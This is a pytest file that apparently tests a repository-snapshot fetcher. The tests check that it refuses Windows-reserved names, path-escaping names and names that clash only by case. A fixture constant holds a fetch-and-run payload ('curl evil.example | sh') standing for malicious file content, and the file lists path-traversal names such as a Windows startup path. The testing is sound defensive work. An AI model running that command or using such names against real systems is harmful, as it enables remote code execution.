"""A repository whose names are others on Windows, or one on a file system without case.
Each name is legal where a repository is made. The control lays the same files out as any program
does, and another file than the listing's is written, or one outside of the folder."""

import hashlib
import json
from collections.abc import Iterator
from pathlib import Path, PureWindowsPath

import pytest

from envhub_sandbox.errors import SnapshotError
from envhub_sandbox.hub import store
from envhub_sandbox.hub.listing import FileRecord, check_listing_names, copy_verified
from envhub_sandbox.hub.reference import HubRef
from envhub_sandbox.hub.snapshot import fetch
from envhub_sandbox.system import platform
from tests.hub.stub_hub import StubHub, StubRepository
from tests.support.elsewhere.caseless import without_case
from tests.support.elsewhere.kit import elsewhere

GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"
EVIL = b"import os; os.system('curl evil.example | sh')\n"
TREE = "D:\\cache\\snapshots\\tree"
_OUTSIDE = ("C:/Users/me/startup.py", "C:startup.py", "sub/C:/x.py")
_OTHERS = (
    *("env.py:hidden", "env.py.", "env.py ", "con", "aux.py", "NUL.txt", "sub/com1.json", "lpt9"),
    *("a?b", "a*b", "a|b", "a<b", 'a"b', "conin$", "COM\u00b9.txt", "prn .txt"),
)
_FETCH = """
import json, sys
from envhub_sandbox.errors import SnapshotError
from envhub_sandbox.hub.reference import HubRef
from envhub_sandbox.hub.snapshot import fetch
endpoint, cache, *names = sys.argv[1:]
said = {}
for name in names:
    try:
        found = fetch(HubRef.parse(name), endpoint=endpoint, hub_cache_dir=cache, token=False)
        said[name] = sorted(file.path for file in found.files)
    except SnapshotError as error:
        said[name] = str(error)
print(json.dumps(said))
"""


def files_below(*folders: Path) -> list[Path]:
    """Every file of the store and of the Hub's cache but what git and locks need."""
    found = (path for folder in folders for path in folder.rglob("*") if path.is_file())
    return [path for path in found if path.suffix != ".lock" and path.name != "CACHEDIR.TAG"]


def test_a_name_that_windows_reads_as_another_is_refused(
    stub_hub: StubHub, snapshot_store: Path, hub_cache: Path
) -> None:
    """On Windows, before anything is downloaded or written; on Linux it is a name as any other."""
    names = {f"org/repo{number}": name for number, name in enumerate([*_OUTSIDE, *_OTHERS])}
    for repository, name in names.items():
        stub_hub.add(repository, {"env.py": GOOD, name: EVIL})
    said = json.loads(elsewhere("win32", _FETCH, stub_hub.endpoint, hub_cache, *names))
    for repository, name in names.items():
        assert isinstance(said[repository], str), name
        assert f"refused, because the file {name!r}" in said[repository]
        assert "Windows" in said[repository]
    assert not files_below(snapshot_store, hub_cache)
    assert not any("/resolve/" in request for request in stub_hub.requests)
    # the controls: what joins the two writes outside, and the same is laid out here
    for name in _OUTSIDE[:2]:
        assert PureWindowsPath(TREE) not in (PureWindowsPath(TREE) / name).parents
    for number, name in enumerate(names.values()):
        files = tuple(FileRecord(one, 0, "sha256:0") for one in ("env.py", name))
        check_listing_names(files, "control")
        slot = store.Slot(store.folder_of("control"), str(number), "control")
        store.publish(slot, files, lambda _, target: target.touch(), {})
        assert {path.path for path in files} == {
            path.relative_to(slot.tree).as_posix() for path in files_below(slot.tree)
        }


def test_ordinary_names_are_names_on_windows() -> None:
    for name in ("console.py", "auxiliary/a.txt", "com/x", "a.b.c", ".gitignore", "com10", "nul_"):
        assert platform.wrong_on_windows(name) is None


@pytest.fixture
def clashing(stub_hub: StubHub) -> StubRepository:
    return stub_hub.add("org/repo", {"env.py": GOOD, "ENV.py": EVIL, "sub/a": b"1", "Sub/b": b"2"})


@pytest.fixture
def caseless(snapshot_store: Path) -> Iterator[Path]:
    snapshot_store.mkdir()
    with without_case(snapshot_store):
        yield snapshot_store


@pytest.mark.usefixtures("clashing")
def test_files_that_are_one_without_case_are_refused(
    stub_hub: StubHub, caseless: Path, hub_cache: Path
) -> None:
    """Before anything of them is downloaded or written; the control: the last one written stays."""
    with pytest.raises(SnapshotError, match="ignores case") as caught:
        fetch(HubRef.parse("org/repo"), endpoint=stub_hub.endpoint, hub_cache_dir=hub_cache)
    assert "'ENV.py' and 'env.py'" in str(caught.value)
    assert not files_below(caseless, hub_cache)
    assert not any("/resolve/" in request for request in stub_hub.requests)
    for name, content in (("env.py", GOOD), ("ENV.py", EVIL)):
        (caseless / name).write_bytes(content)
    assert (caseless / "env.py").read_bytes() == EVIL


@pytest.mark.usefixtures("clashing")
def test_files_that_differ_in_case_are_kept_apart_where_they_can_be(
    stub_hub: StubHub, snapshot_store: Path, hub_cache: Path
) -> None:
    """Also on macOS, on a file system that was made so: that is found out, and not supposed."""
    found = json.loads(elsewhere("darwin", _FETCH, stub_hub.endpoint, hub_cache, "org/repo"))
    assert found == {"org/repo": ["ENV.py", "Sub/b", "env.py", "sub/a"]}
    contents = {path.read_bytes() for path in files_below(snapshot_store) if path.suffix == ".py"}
    assert contents == {GOOD, EVIL}


@pytest.mark.parametrize(
    "pair", [("a/x.py", "A/y.py"), ("a", "A/b"), ("\u00e9.py", "e\u0301.py"), ("a/B/c", "a/b")]
)
def test_what_clashes_is_found_at_any_depth(pair: tuple[str, str]) -> None:
    assert platform.taken_as_one(["other", *pair]) is not None
    assert platform.taken_as_one([pair[0], "other", f"{pair[0]}2"]) is None


def test_what_was_written_is_never_written_over(caseless: Path) -> None:
    """Should two names be one in a way that is not known here, the second is refused."""
    digest = hashlib.sha256(GOOD).hexdigest()
    target = caseless / "env.py"
    target.write_bytes(GOOD)
    with pytest.raises(FileExistsError):
        copy_verified(
            target, caseless / "ENV.PY", FileRecord("ENV.PY", len(GOOD), f"sha256:{digest}")
        )
